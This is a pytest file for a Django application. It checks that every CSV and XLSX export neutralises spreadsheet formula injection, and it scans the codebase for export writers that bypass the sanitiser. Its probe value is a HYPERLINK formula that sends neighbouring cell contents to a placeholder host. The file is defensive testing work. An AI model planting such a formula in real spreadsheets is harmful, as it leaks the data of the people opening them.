"""No export of Kinga carries a live spreadsheet formula, whatever people typed into the records.

A formula-looking value is planted in every free-text column of every table (after a synthetic data set
fills the database), then every CSV and XLSX export is produced through its public surface (the pages'
download links, the commands that write files) and opened: no XLSX cell is a formula, no CSV cell starts
with a character that makes a spreadsheet program evaluate it. A last test reads the code itself, so that an
export added later without the one writer (kinga.core.spreadsheets) fails the build.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.apps import apps
from django.core.cache import cache
from django.core.management import call_command
from django.db import DatabaseError, IntegrityError, models, transaction
from django.db.models import Value
from django.db.models.functions import Cast, Concat

from kinga.core import clock, spreadsheets
from kinga.core.fields import EncryptedJSONField, EncryptedTextField
from kinga.core.models import Organisation
from kinga.core.roles import Role
from kinga.core.synth import SCALES
from kinga.core.testing import client_for, make_member, shared_path

REPO = Path(__file__).resolve().parents[3]
# The probe's value: a caseworker's entry that, evaluated, sends the neighbouring cells away.
PAYLOAD = '=HYPERLINK("http://x/?"&A1,"Ouvrir")'
SHORT = "=1+1"  # for columns too short for the whole payload
PREFIXES = spreadsheets.FORMULA_PREFIXES
TINY = {key: max(1, min(value, 12)) for key, value in SCALES["demo"].items()}


# --- the writer itself ------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", PAYLOAD])
def test_csv_text_starting_with_a_formula_character_is_quoted(value):
    line = spreadsheets.csv_text([[value]])
    (cell,) = next(csv.reader(io.StringIO(line)))
    assert cell == "'" + value


def test_numbers_stay_numbers_and_plain_text_is_unchanged():
    line = spreadsheets.csv_text([[-3, -1.5, 0, "Kolwezi", "Mwamba-Ilunga", None, datetime.date(2026, 1, 2)]])
    assert next(csv.reader(io.StringIO(line))) == [
        "-3",
        "-1.5",
        "0",
        "Kolwezi",
        "Mwamba-Ilunga",
        "",
        "2026-01-02",
    ]


def test_xlsx_text_is_text_and_numbers_are_numbers(tmp_path):
    path = tmp_path / "t.xlsx"
    book = spreadsheets.Workbook(str(path))
    sheet = book.add_worksheet("t")
    bold = book.add_format({"bold": True})
    sheet.write_row(0, 0, [PAYLOAD, "-5", -5, "@x", datetime.date(2026, 1, 2)], bold)
    sheet.merge_range(1, 0, 2, 0, "=2+2", bold)
    book.close()
    assert_no_formula_in_xlsx(path.read_bytes())
    cells = openpyxl.load_workbook(path)["t"]
    assert [c.value for c in cells[1]][:4] == [PAYLOAD, "-5", -5, "@x"]
    assert cells["A1"].quotePrefix and cells["A1"].font.b  # stays text when edited, keeps its format
    assert cells["C1"].data_type == "n"
    assert cells["A2"].value == "=2+2" and cells["A2"].data_type == "s"


# --- every export, on records full of formulas -------------------------------------------------------------


def assert_no_formula_in_xlsx(content: bytes) -> int:
    """No formula element in any sheet's XML nor any formula cell as openpyxl reads it; returns the number of
    cells holding a formula-looking text (the planted values that came through as text)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = openpyxl.load_workbook(io.BytesIO(content))
    planted = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(PREFIXES):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    planted += 1
    return planted


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula_in_csv(text: str) -> int:
    """No cell a spreadsheet would evaluate; returns the number of neutralised cells (planted values)."""
    planted = 0
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            assert not (cell.startswith(PREFIXES) and not _is_number(cell)), row
            planted += cell.startswith("'=")
    return planted


def _text_fields(model):
    for field in model._meta.concrete_fields:
        if field.primary_key or field.choices or field.is_relation:
            continue
        if field.name == "path" or field.name.endswith("_path"):  # tree paths are computed, never typed
            continue
        if isinstance(field, models.CharField | models.TextField | EncryptedTextField):
            yield field


def plant_formulas() -> int:
    """Every free-text column of every Kinga table gets a formula (unique per row where the column is
    unique); JSON lists of strings get one too. Columns the database refuses such a value for are left."""
    planted = 0
    for config in apps.get_app_configs():
        if not config.name.startswith("kinga."):
            continue
        for model in config.get_models():
            if model._meta.proxy or not model.objects.exists():
                continue
            for field in _text_fields(model):
                short = field.max_length is not None and field.max_length < len(PAYLOAD) + 12
                text = SHORT if short else PAYLOAD
                if field.max_length is not None and field.max_length < len(SHORT) + 8:
                    continue
                if isinstance(field, EncryptedJSONField):
                    continue
                if isinstance(field, EncryptedTextField):
                    value = text  # encrypted once; no unique index on ciphertext
                else:
                    value = Concat(Value(text + "&"), Cast("pk", models.CharField()))
                try:
                    with transaction.atomic():
                        model.objects.update(**{field.name: value})
                    planted += 1
                except (IntegrityError, DatabaseError, PermissionError):  # the audit trail refuses
                    pass
            for field in model._meta.concrete_fields:
                if isinstance(field, models.JSONField):
                    sample = model.objects.exclude(**{field.name: None}).values_list(field.name, flat=True)[
                        :1
                    ]
                    if sample and isinstance(sample[0], list) and all(isinstance(v, str) for v in sample[0]):
                        model.objects.update(**{field.name: [PAYLOAD, "+" + PAYLOAD[1:]]})
                        planted += 1
    cache.clear()
    return planted


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """A small synthetic data set (every app's generator), then formulas everywhere. Built once for the
    module inside a transaction rolled back at its end (each test runs in a savepoint within it)."""
    with django_db_blocker.unblock(), pytest.MonkeyPatch.context() as patch, transaction.atomic():
        patch.setitem(SCALES, "tiny", TINY)
        call_command("synth", "--scale", "tiny", stdout=io.StringIO())
        assert plant_formulas() > 50
        # Members made after the planting: their passwords and e-mail addresses are not formulas.
        busiest = Organisation.objects.annotate(n=models.Count("cases")).order_by("-n").first()
        manager = make_member(busiest, Role.ORG_MANAGER)
        coordinator = make_member(busiest, Role.COORDINATOR)
        yield {"manager": client_for(manager), "coordinator": client_for(coordinator)}
        transaction.set_rollback(True)
    cache.clear()


def _buyer_query() -> str:
    buyer = Organisation.objects.annotate(n=models.Count("supply_purchases")).order_by("-n").first()
    today = clock.today()
    return f"buyer={buyer.uuid}&start={today.year - 2}-01-01&end={today.isoformat()}&format=xlsx"


# (who downloads it, how to reach it, csv or xlsx, at least this many planted cells come through)
PAGES = {
    "cases-identified": ("manager", lambda: "/cases/export/", "csv", 3),
    "cases-pseudonymised": ("coordinator", lambda: "/cases/export/", "csv", 0),
    "fourw-csv": ("manager", lambda: "/community/4w/export.csv", "csv", 3),
    "fourw-xlsx": ("manager", lambda: "/community/4w/export.xlsx", "xlsx", 3),
    "plan-logframe": ("coordinator", lambda: "/plan/export/xlsx/", "xlsx", 3),
    "plan-budget": ("coordinator", lambda: "/plan/export/budget-xlsx/", "xlsx", 3),
    "due-diligence": ("coordinator", lambda: "/supply/diligence/?" + _buyer_query(), "xlsx", 1),
    "households-template": ("manager", lambda: "/households/importer/modele.csv", "csv", 0),
}


# The world's every text column is poisoned behind the models' back (QuerySet.update), p-codes included: the
# counts kept on write are not checked after these tests (kinga.core.tallies: such writes rebuild them).
@pytest.mark.no_tally_check
@pytest.mark.parametrize("name", sorted(PAGES))
def test_no_export_page_carries_a_formula(world, db, name):
    who, url, kind, at_least = PAGES[name]
    response = world[who].get(url())
    assert response.status_code == 200, response.content[:300]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if kind == "xlsx":
        planted = assert_no_formula_in_xlsx(content)
    else:
        planted = assert_no_formula_in_csv(content.decode("utf-8"))
    assert planted >= at_least  # the planted values did reach the file


def test_the_registry_matcher_output_carries_no_formula(tmp_path):
    source = tmp_path / "records.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "given_name", "family_name", "sex", "birth_date", "age", "place", "caregiver"])
        writer.writerow([PAYLOAD, "Mwamba", "Ilunga", "M", "2012-03-05", "", "Kolwezi", "Kabwe"])
        writer.writerow(["-7", "Mwamba", "Ilunga", "M", "2012-03-05", "", "Kolwezi", "Kabwe"])
    out = tmp_path / "pairs.csv"
    call_command("registry", "match", "--csv", str(source), "-o", str(out), stderr=io.StringIO())
    assert assert_no_formula_in_csv(out.read_text(encoding="utf-8")) == 1


@pytest.mark.no_tally_check
@pytest.mark.django_db
def test_the_ipis_rejects_file_carries_no_formula(tmp_path, reference_places):
    source = tmp_path / "ipis.csv"
    ipis = shared_path("data", "ipis", "cod_mines_curated_all_opendata_p_ipis.csv")
    with ipis.open(encoding="utf-8-sig") as handle:
        columns = handle.readline()
    names = next(csv.reader([columns]))
    row = {name: PAYLOAD for name in names}
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=names)
        writer.writeheader()
        writer.writerow(row)
    rejects = tmp_path / "rejects.csv"
    call_command(
        "sites",
        "import-ipis",
        str(source),
        "--rejects",
        str(rejects),
        "--accept-rejections",
        stdout=io.StringIO(),
    )
    assert assert_no_formula_in_csv(rejects.read_text(encoding="utf-8")) >= 1


# --- no export can bypass the writer -----------------------------------------------------------------------

BYPASS = re.compile(
    r"\bcsv\.(writer|DictWriter)\b|\bimport xlsxwriter\b|\bxlsxwriter\.|\bopenpyxl\.Workbook\b|"
    r"from openpyxl import Workbook|from xlsxwriter"
)


def test_every_csv_and_xlsx_is_written_by_the_one_writer():
    """csv.writer, xlsxwriter or an openpyxl Workbook anywhere but kinga/core/spreadsheets.py is an export
    that skips the neutralisation; so is a CSV joined by hand in a module that serves text/csv."""
    offenders = []
    for path in sorted((REPO / "kinga").rglob("*.py")):
        relative = path.relative_to(REPO).as_posix()
        if "/tests/" in relative or relative == "kinga/core/spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        for number, line in enumerate(text.splitlines(), start=1):
            if BYPASS.search(line):
                offenders.append(f"{relative}:{number}: {line.strip()}")
        if "text/csv" in text and re.search(r"\"[,;]\"\.join\(", text):
            offenders.append(f"{relative}: builds CSV lines by hand next to a text/csv response")
    assert offenders == []
